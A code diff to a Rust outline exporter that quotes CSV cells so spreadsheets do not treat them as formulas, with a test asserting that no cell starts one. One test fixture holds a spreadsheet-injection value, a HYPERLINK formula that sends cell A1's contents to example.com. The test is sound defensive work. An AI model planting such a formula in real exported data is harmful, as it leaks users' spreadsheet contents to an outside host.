@@ -8,6 +8,7 @@ use sha2::{Digest, Sha256};
 
 use super::OutlineEntry;
 use crate::db::sections::Section;
+use crate::export::cells;
 
 /// The stored nodes as file rows, in document order. A parent is written
 /// out only where the numbering would not imply it (tables, figures, and
@@ -43,23 +44,29 @@ pub fn entries_of(sections: &[Section]) -> Vec<OutlineEntry> {
         .collect()
 }
 
-/// The outline as CSV with every column `outline import` reads.
+/// The outline as CSV with every column `outline import` reads. Cells that
+/// a spreadsheet would take for a formula are quoted ([`cells::to_cell`]);
+/// reading the file back takes the quote off.
 pub fn to_csv(entries: &[OutlineEntry]) -> Result<String, csv::Error> {
+    fn opt(v: &Option<String>) -> &str {
+        v.as_deref().unwrap_or_default()
+    }
     let mut writer = csv::Writer::from_writer(Vec::new());
     writer.write_record(super::file::CSV_COLUMNS)?;
     for e in entries {
-        let opt = |v: &Option<String>| v.clone().unwrap_or_default();
-        writer.write_record([
-            e.number.clone(),
-            e.title.clone(),
+        let row = [
+            e.number.as_str(),
+            e.title.as_str(),
             opt(&e.kind),
-            e.volume.clone(),
+            e.volume.as_str(),
             opt(&e.page_start),
             opt(&e.page_end),
             opt(&e.line_start),
             opt(&e.line_end),
             opt(&e.parent),
-        ])?;
+        ];
+        // Opened in a spreadsheet, `=…` in a title must stay text.
+        writer.write_record(row.map(cells::to_cell).iter().map(|c| c.as_bytes()))?;
     }
     let bytes = writer.into_inner().map_err(|e| e.into_error())?;
     Ok(String::from_utf8_lossy(&bytes).into_owned())
@@ -177,6 +184,10 @@ volume = "63B"
 number = "A.10"
 title = "Ten, not one"
 volume = "63B"
+[[section]]
+number = "A.11"
+title = "=HYPERLINK(\"http://example.com/?\"&A1, \"click\")"
+volume = "63B"
 "#;
 
     #[test]
@@ -186,6 +197,10 @@ volume = "63B"
             let entries = entries_of(&stored(&outline));
             let csv = to_csv(&entries).unwrap();
             assert_eq!(parse(&csv, OutlineFormat::Csv).unwrap(), outline, "{csv}");
+            assert!(
+                !csv.contains(",=") && !csv.contains("\"="),
+                "no cell starts a formula: {csv}"
+            );
             let toml = to_toml(&entries).unwrap();
             assert_eq!(
                 parse(&toml, OutlineFormat::Toml).unwrap(),
